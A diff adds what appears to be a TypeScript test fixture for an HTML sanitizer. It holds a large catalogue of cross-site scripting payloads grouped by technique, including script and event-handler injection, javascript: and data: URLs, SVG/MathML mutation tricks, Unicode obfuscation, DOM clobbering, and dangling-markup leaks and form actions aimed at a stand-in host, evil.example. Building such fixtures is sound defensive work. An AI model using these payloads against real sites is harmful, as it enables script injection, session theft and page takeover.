@@ -1,0 +1,163 @@
+const run = 'window.pwned=1'
+const evil = 'https://evil.example'
+/** Ends whatever the words before it opened. */
+const image = `<img src=x onerror="${run}">`
+
+/** HTML that tries to run, load, lead astray or take the page's place, by the trick it uses. */
+export const hostile: Record<string, string[]> = {
+  script: [
+    `<script>${run}</script>`,
+    `<SCRIPT SRC=${evil}/a.js></SCRIPT>`,
+    `<script/x>${run}</script >`,
+    `<<script>${run}//<</script>`,
+    `<scr<script>ipt>${run}</scr</script>ipt>`,
+    `<script type="module">${run}</script><script>${run}`,
+    `<svg><script href="data:text/javascript,${run}"/></svg>`,
+  ],
+  handlers: [
+    `<img src=x onerror=${run}>`,
+    `<img src=x OnErRoR\n=\n"${run}">`,
+    `<img/src=x/onerror=${run}//>`,
+    `<p onmouseover="${run}" onclick="${run}" tabindex=1 onfocus="${run}" autofocus>over</p>`,
+    `<details open ontoggle="${run}"><summary>x</summary></details>`,
+    `<video src=x onerror="${run}"></video><audio src=x onerror="${run}"></audio>`,
+    `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select>`,
+    `<marquee onstart="${run}">x</marquee><body onload="${run}">`,
+    `<p style="animation:spin 1s" onanimationstart="${run}">x</p>`,
+  ],
+  addresses: [
+    `<a href="javascript:${run}">x</a>`,
+    `<a href="JaVaScRiPt:${run}">x</a>`,
+    `<a href=" \u0001javascript:${run}">x</a>`,
+    `<a href="java\nscript:${run}">x</a>`,
+    `<a href="java&#9;script&colon;${run}">x</a>`,
+    `<a href="&#106;&#x61;vascript:${run}">x</a>`,
+    `<a href="vbscript:msgbox(1)">x</a>`,
+    `<a href="data:text/html,<script>${run}</script>">x</a>`,
+    `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">x</a>`,
+    `<a href="//evil.example" target="_blank" ping="${evil}">x</a>`,
+    `<a href="\\\\evil.example">x</a><a href="feed:javascript:${run}">x</a><a href="blob:x">x</a>`,
+    `<blockquote cite="javascript:${run}">x</blockquote><q cite="${evil}">x</q>`,
+  ],
+  pictures: [
+    `<img src="${evil}/a.png" srcset="${evil}/b.png 2x" alt="words">`,
+    `<img src="//evil.example/c.png" alt="words">`,
+    `<img src="/\\evil.example/d.png" alt="words">`,
+    `<img src="data:image/svg+xml,<svg onload='${run}'/>" alt="words">`,
+    `<img src="/pictures/a.svg" alt='"><img src=x onerror=${run}>'>`,
+    `<picture><source srcset="${evil}/e.png"><img src=x lowsrc="${evil}/f.png" dynsrc="${evil}"></picture>`,
+    `<table background="${evil}/g.png"><td background="${evil}/h.png">x</table>`,
+  ],
+  frames: [
+    `<iframe src="javascript:${run}"></iframe>`,
+    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
+    `<iframe src="${evil}"></iframe><frameset><frame src="${evil}"></frameset>`,
+    `<iframe src='"><img src=x onerror=${run}>'></iframe>`,
+    `<object data="data:text/html,<script>${run}</script>"></object><embed src="${evil}/a.swf">`,
+    `<portal src="${evil}"></portal><applet code="x"></applet>`,
+  ],
+  document: [
+    `<base href="${evil}/">`,
+    `<meta http-equiv="refresh" content="0;url=${evil}">`,
+    `<link rel="stylesheet" href="${evil}/a.css"><link rel="prefetch" href="${evil}">`,
+    `<style>@import "${evil}/b.css";body{background:url(${evil}/c.png)}</style>`,
+    `<form action="${evil}"><input name="password"><button formaction="javascript:${run}">Go</button></form>`,
+    `</div></main></body></html><script>${run}</script>`,
+    `<dialog open>Sign in again</dialog><plaintext>`,
+  ],
+  css: [
+    `<p style="background:url(${evil}/a.png)">x</p>`,
+    `<p style="width:expression(${run});behavior:url(${evil});-moz-binding:url(${evil})">x</p>`,
+    `<div style="position:fixed;inset:0;z-index:9999" class="enlarge wide toast modal">x</div>`,
+  ],
+  namespaces: [
+    `<svg onload="${run}"><g/onload="${run}"></svg>`,
+    `<svg><animate attributeName=href values="javascript:${run}" /><a id=x><rect width=9 height=9 /></a></svg>`,
+    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
+    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
+    `<svg></p><style><a title="</style>${image.replaceAll('"', "'")}">`,
+    `<svg><desc><![CDATA[</desc>${image}]]></svg>`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+    `<math><mi//xlink:href="data:x,<script>${run}</script>">x</mi></math>`,
+    `<math><annotation-xml encoding="text/html"><style><img title="</style>${image.replaceAll('"', "'")}"></annotation-xml></math>`,
+    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
+    `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea>${image.replaceAll('"', "'")}">`,
+    `<math href="javascript:${run}"><maction actiontype="statusline#${evil}"><mi>x</mi></maction></math>`,
+    `<table><math><select><mi><select></table>${image}`,
+  ],
+  rawText: [
+    `<noscript><p title="</noscript>${image.replaceAll('"', "'")}"></noscript>`,
+    `<textarea><p title="</textarea>${image.replaceAll('"', "'")}"></textarea>`,
+    `<title><p title="</title>${image.replaceAll('"', "'")}"></title>`,
+    `<template><p title="</template>${image.replaceAll('"', "'")}"></template>`,
+    `<xmp><p title="</xmp>${image.replaceAll('"', "'")}"></xmp><listing>&lt;img onerror=${run}&gt;</listing>`,
+    `<noembed><p title="</noembed>${image.replaceAll('"', "'")}"></noembed><noframes></noframes>`,
+    `<select><option><style></option></select>${image}</style></select>`,
+  ],
+  comments: [
+    `<!--><script>${run}</script>-->`,
+    `<!--${image}--!>${image}`,
+    `<!-- --!><img title="--><script>${run}</script>">`,
+    `<![CDATA[><script>${run}</script>]]>`,
+    `<?xml version="1.0"?><?php echo 1 ?>${image}`,
+    `<!doctype html [<!ENTITY x "${run}">]>&x;`,
+    `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
+  ],
+  letters: [
+    `<scr\u0000ipt>${run}</scr\u0000ipt>`,
+    `<img src=x\u000Conerror=${run}>`,
+    `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
+    `<\u0073cript>${run}</\u0073cript>`,
+    `&lt;script&gt;${run}&lt;/script&gt; &amp;lt;img src=x onerror=${run}&amp;gt;`,
+    `\u2028<script>${run}</script>\u2029 \u202E>tpircs<`,
+    `<a href="https://e\u0000vil.example/\uD83D">x</a>`.replace('\uD83D', ''),
+  ],
+  attributes: [
+    `<p title="x" title='"><script>${run}</script>'>x</p>`,
+    `<a href='https://a.example/"onmouseover="${run}'>x</a>`,
+    `<a href="https://a.example/?\`><script>${run}</script>">x</a>`,
+    `<a title="</a>${image.replaceAll('"', "'")}" href="https://a.example">x</a>`,
+    `<th scope='"><img src=x onerror=${run}>' colspan="1 onclick=${run}">x</th>`,
+    `<caption>x</caption><table><caption>"><img src=x onerror=${run}></caption><tr><td>x</td></tr></table>`,
+    `<p lang='"><script>${run}</script>' dir='" onclick="${run}'>x</p>`,
+  ],
+  dangling: [
+    `<img src='${evil}/?`,
+    `<a href="${evil}/?`,
+    `<button form=x formaction='${evil}/?`,
+    `<input type=hidden value='`,
+    `<table><tr><td>never closed <b><i><ul><li>`,
+    `<p title="`,
+    `<script>never closed`,
+    `</p></div></article></main><h1>Another page</h1>`,
+  ],
+  clobbering: [
+    `<a id="hydration" name="hydration">{"state":{}}</a>`,
+    `<img name="cookie" id="location"><form id="document" name="getElementById"></form>`,
+    `<p id="root" data-part="passage" data-theme="dark" is="x-y" slot="z" contenteditable>x</p>`,
+    `<a id=pwned><a id=pwned name=x href="https://a.example">x</a>`,
+  ],
+  formulas: [
+    `<p>\\(\\href{javascript:${run}}{x}\\)</p>`,
+    `<p>\\(\\text{<script>${run}</script>}\\) \\[\\text{&lt;img src=x onerror=${run}&gt;}\\]</p>`,
+    `<p>\\(\\class{enlarge}{x}\\style{position:fixed}{y}\\includegraphics{${evil}/a.png}\\)</p>`,
+    `<p>\\(x</math><img src=x onerror=${run}>\\)</p>`,
+  ],
+}
+
+/** All of it, each with the trick it uses. */
+export const everyHostile = Object.entries(hostile).flatMap(([family, htmls]) =>
+  htmls.map((html) => ({ family, html })),
+)
+
+/** For fields of plain text: names, messages, quotations. */
+export const hostileTexts = [
+  `</script><script>${run}</script>`,
+  `</title></textarea></style>${image}`,
+  `"><svg onload=${run}>`,
+  `'-${run}-'`,
+  `<!--<script>`,
+  `javascript:${run}`,
+  `{{constructor.constructor('${run}')()}}\${${run}}`,
+  `\u2028${run}\u2029`,
+]
